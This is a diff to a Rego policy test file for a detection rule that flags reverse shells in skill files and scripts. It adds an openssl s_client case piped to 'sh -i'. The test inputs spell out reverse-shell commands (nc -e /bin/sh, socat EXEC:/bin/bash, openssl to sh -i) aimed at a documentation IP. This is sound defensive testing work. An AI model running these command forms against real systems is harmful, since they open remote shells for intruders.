@@ -13,10 +13,12 @@ test_fires_on_a_shell_that_is_connected if {
 	severities(rule.findings) == {"critical"} with input as given("nc", ["-e", "/bin/sh", "192.0.2.1", "4444"], [], "scripts/a.py")
 	severities(rule.findings) == {"critical"} with input as given("socat", ["TCP:192.0.2.1:1", "EXEC:/bin/bash,pty"], [], "SKILL.md")
 	severities(rule.findings) == {"critical"} with input as given("nc", ["192.0.2.1", "1"], [{"program": "sh", "args": ["-i"]}], "SKILL.md")
+	severities(rule.findings) == {"critical"} with input as given("openssl", ["s_client", "-connect", "192.0.2.1:1"], [{"program": "sh", "args": ["-i"]}], "SKILL.md")
 	severities(rule.findings) == {"medium"} with input as given("nc", ["-e", "/bin/sh", "192.0.2.1", "4444"], [], "references/attacks.md")
 }
 
 test_silent_on_other_connections if {
+	count(rule.findings) == 0 with input as given("openssl", ["s_client", "-connect", "a.example:443"], [{"program": "echo", "args": []}], "SKILL.md")
 	count(rule.findings) == 0 with input as given("nc", ["-z", "localhost", "5432"], [], "SKILL.md")
 	count(rule.findings) == 0 with input as given("nc", ["-e", "x", "192.0.2.1", "1"], [], "SKILL.md")
 	count(rule.findings) == 0 with input as given("bash", ["-c", "echo"], [], "SKILL.md")
